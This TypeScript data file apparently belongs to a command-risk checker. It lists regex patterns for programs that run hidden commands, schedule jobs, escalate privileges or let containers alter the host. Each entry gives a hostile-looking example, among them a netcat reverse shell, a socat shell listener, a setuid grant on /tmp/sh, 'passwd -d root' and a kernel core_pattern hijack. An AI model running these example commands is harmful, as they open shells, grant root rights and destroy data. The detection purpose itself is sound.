// Forms of programs that run something opaque, now or later, or that reach out of a container. Data; see
// dangerous-forms.ts.

const runs = { risk: "opaque", what: "can run another command" } as const;
const later = { risk: "opaque", what: "schedules commands" } as const;

/** Made at first use. */
import type { Form } from "./danger.ts";
export const runningForms = (): readonly Form[] => [
  {
    programs: "tar bsdtar gtar",
    argument:
      /^--(?:to-command|checkpoint-action|use-compress|info-script|new-volume|rsh-command|rmt-command)|^-[a-zA-Z]*I|^-F/,
    ...runs,
    example: "tar xf x.tar --to-command='sh -c x'",
  },
  {
    programs: "tar bsdtar gtar",
    options: ["--remove-files", "--delete"],
    risk: "destroys",
    what: "deletes files",
    example: "tar cf x.tar --remove-files /data",
  },
  {
    programs: "tar bsdtar gtar",
    options: ["-P", "--absolute-names"],
    argument: /^-?[a-zA-Z]*x/,
    risk: "destroys",
    what: "can overwrite any file",
    example: "tar -xPf x.tar",
  },
  { programs: "rpm", options: ["--pipe"], ...runs, example: "rpm -qa --pipe 'rm x'" },
  { programs: "ed ex red", ...runs, example: "ed -s /etc/passwd" },
  {
    programs: "vi vim nvim view",
    options: ["-c", "-es", "-s", "--cmd", "-S"],
    ...runs,
    example: "vim -c ':!rm x' -c ':q'",
  },
  {
    programs: "emacs",
    options: ["--batch", "--eval", "-batch", "-eval", "-l", "--load"],
    ...runs,
    example: "emacs --batch --eval '(x)'",
  },
  { programs: "gdb lldb", ...runs, example: "gdb -p 1 -ex 'call system(\"x\")'" },
  {
    programs: "sqlite3",
    argument: /\.(?:shell|system|load)\b/,
    ...runs,
    example: "sqlite3 x.db '.shell rm x'",
  },
  {
    programs: "psql mysql mariadb",
    argument: /\\!|(?:^|;)\s*system\s|copy .* (?:to|from) program/i,
    ...runs,
    example: "psql -c '\\! rm x'",
  },
  { programs: "dc m4", argument: /!|syscmd|esyscmd/, ...runs, example: "dc -e '!rm x'" },
  {
    programs: "nc ncat netcat",
    options: ["-e", "-c", "--exec", "--sh-exec"],
    ...runs,
    example: "nc -e /bin/sh 10.0.0.1 4444",
  },
  {
    programs: "socat",
    argument: /^(?:exec|system|shell):/i,
    ...runs,
    example: "socat tcp-listen:1 exec:/bin/sh",
  },
  {
    programs: "ssh scp sftp",
    argument: /(?:ProxyCommand|LocalCommand|KnownHostsCommand|PKCS11Provider)/i,
    ...runs,
    example: "scp -o ProxyCommand='sh x' a b:",
  },
  {
    programs: "git",
    argument:
      /^(?:core\.(?:sshcommand|pager|editor|fsmonitor|hookspath|askpass|gitproxy)|alias\.[^=]*|diff\.external|credential\.helper|sequence\.editor|pager\.[^=]*)=|^ext::|^--(?:upload-pack|receive-pack|exec)/i,
    ...runs,
    example: "git -c core.sshCommand='sh x' fetch",
  },
  {
    programs: "git",
    words: /^(?:bisect run|submodule foreach|filter-branch|rebase .*)(?: |$)/,
    argument: /^(?:run|foreach|filter-branch|-x|--exec.*)$/,
    ...runs,
    example: "git submodule foreach 'rm -rf x'",
  },
  {
    programs: "rsync",
    argument: /^--rsync-path|^--rsh=(?!ssh\b)/,
    ...runs,
    example: "rsync --rsync-path='sh x' a b:",
  },
  {
    programs: "start-stop-daemon daemonize daemon run-parts setuidgid entr inotifywait incrond",
    ...runs,
    example: "run-parts /etc/cron.daily",
  },
  {
    programs: "fd fdfind",
    options: ["-x", "-X", "--exec", "--exec-batch"],
    ...runs,
    example: "fd old -x rm",
  },
  {
    programs: "tmux",
    words: /^(?:send-keys|send|run-shell|run|if-shell|if|respawn-\w+|pipe-pane)(?: |$)/,
    ...runs,
    example: "tmux send-keys 'rm x' Enter",
  },
  {
    programs: "screen",
    options: ["-X", "-dm", "-dmS", "-d", "-m"],
    ...runs,
    example: "screen -dmS job sh x",
  },
  {
    programs: "hyperfine capsh firejail proot bwrap fakeroot fakechroot perf ltrace valgrind",
    words: /./,
    ...runs,
    example: "hyperfine 'rm x'",
  },
  {
    programs: "fab puppet chef-client chef-solo cfengine",
    ...runs,
    example: "puppet apply site.pp",
  },
  {
    programs: "salt salt-call",
    words: /^(?!(?:\S+ )?cmd\.(?:run|shell|run_all|run_stdout) )/,
    ...runs,
    example: "salt '*' state.apply web",
  },
  {
    programs: "knife",
    words: /^(?:bootstrap|exec|winrm|job)(?: |$)/,
    ...runs,
    example: "knife bootstrap web",
  },
  {
    programs: "insmod kexec kpatch livepatch",
    ...runs,
    what: "loads code into the kernel",
    example: "insmod x.ko",
  },
  {
    programs: "sysctl",
    argument: /(?:core_pattern|kernel\.modprobe|poweroff_cmd|uevent_helper|sysrq)\s*=/,
    ...runs,
    what: "makes the kernel run a program",
    example: "sysctl -w kernel.core_pattern='|/tmp/x'",
  },
  { programs: "crontab", words: /^./, unless: ["-l", "-r"], ...later, example: "crontab file" },
  { programs: "crontab", options: ["-e"], ...later, example: "crontab -e" },
  { programs: "at batch", options: ["-f"], ...later, example: "at -f job now" },
  { programs: "atrm", risk: "destroys", what: "removes jobs", example: "atrm 3" },
  { programs: "at", options: ["-d", "-r"], risk: "destroys", what: "removes jobs", example: "at -r 3" },
  {
    programs: "chmod",
    argument: /^(?:[aou]|ug|gu|uo)*\+[rwxXt]*s|^0?[4-7][0-7]{3}$/,
    risk: "opaque",
    what: "lets anyone who runs the file act as its owner",
    example: "chmod u+s /tmp/sh",
  },
  {
    programs: "setcap",
    risk: "opaque",
    what: "gives anyone who runs the file some root rights",
    example: "setcap cap_setuid+ep /tmp/x",
  },
  {
    programs: "passwd",
    options: ["-d", "--delete", "-l", "--lock"],
    risk: "destroys",
    what: "removes a password",
    example: "passwd -d root",
  },
  { programs: "visudo vipw vigr", risk: "opaque", what: "edits users or permissions", example: "visudo" },
  {
    programs: "unzip 7z 7za",
    argument: /^(?:-d|-o)?\/(?:etc|boot|usr|bin|sbin|lib|dev)?\/?$/,
    risk: "destroys",
    what: "overwrites system files",
    example: "unzip -o x.zip -d /",
  },
  {
    programs: "ctr",
    argument: /^--(?:privileged|mount|with-ns)/,
    risk: "opaque",
    what: "lets a container change the node",
    example: "ctr run --privileged image name",
  },
  {
    programs: "lxc",
    argument: /security\.privileged|raw\.lxc|source=\//,
    risk: "opaque",
    what: "lets a container change the node",
    example: "lxc config set web security.privileged true",
  },
  {
    programs: "kubectl oc",
    argument: /^--privileged|^node\/|hostPID|hostPath|"privileged"/,
    words: /^(?:run|debug)(?: |$)/,
    risk: "opaque",
    what: "lets a container change a node",
    example: "kubectl debug node/web -it --image=alpine",
  },
  {
    programs: "docker podman nerdctl",
    words: /^plugin install/,
    risk: "opaque",
    what: "lets a plugin change the node",
    example: "docker plugin install --grant-all-permissions x",
  },
];
